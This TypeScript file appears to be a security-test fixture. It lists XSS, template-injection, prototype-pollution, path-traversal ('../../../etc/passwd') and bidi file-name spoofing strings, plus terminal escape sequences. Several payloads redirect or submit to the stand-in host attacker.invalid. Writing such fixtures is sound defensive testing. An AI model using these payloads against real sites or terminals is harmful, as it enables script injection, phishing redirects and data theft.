/** Texts that would do something if a page took them for more than text. */
const CALL = 'window.__breach=1'
const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
  'onscroll',
]
const TAGS = ['img', 'svg', 'video', 'iframe', 'object', 'embed', 'input', 'details', 'body', 'marquee', 'math', 'style']

export const PAYLOADS: readonly string[] = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  '<style>*{display:none}</style>',
  '<base href="http://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
  '<link rel="stylesheet" href="http://attacker.invalid/a.css">',
  '<form action="http://attacker.invalid/"><button>x</button></form>',
  '<a href="javascript:void(0)" id="constructor">x</a>',
  '</title></textarea></style></script><b>',
  '<!--<img src=x onerror=alert(1)>-->',
  '{{constructor.constructor("return 1")()}}',
  '${alert(1)}',
  '#{7*7}',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '__proto__',
  'constructor',
  '\u202Egpj.exe',
  '\u2066a\u2069\u200B\uFEFF',
  '../../../etc/passwd',
  '//attacker.invalid/x',
  'a'.repeat(400),
  ...TAGS.flatMap((tag) => EVENTS.slice(0, 8).map((event) => `<${tag} src=x ${event}=${CALL} autofocus open tabindex=0>`)),
]

/** Output that a terminal would act on. */
export const OUTPUT_PAYLOADS: readonly string[] = [
  '\u001B]8;;javascript:window.__breach=1\u0007click\u001B]8;;\u0007',
  '\u001B]8;;http://attacker.invalid/\u001B\\click\u001B]8;;\u001B\\',
  '\u001B]0;title\u0007',
  '\u001B[2J\u001B[H',
  '\u001B[31m<img src=x onerror=window.__breach=1>\u001B[0m',
  'a\u0000b',
  '\u009B31m',
]
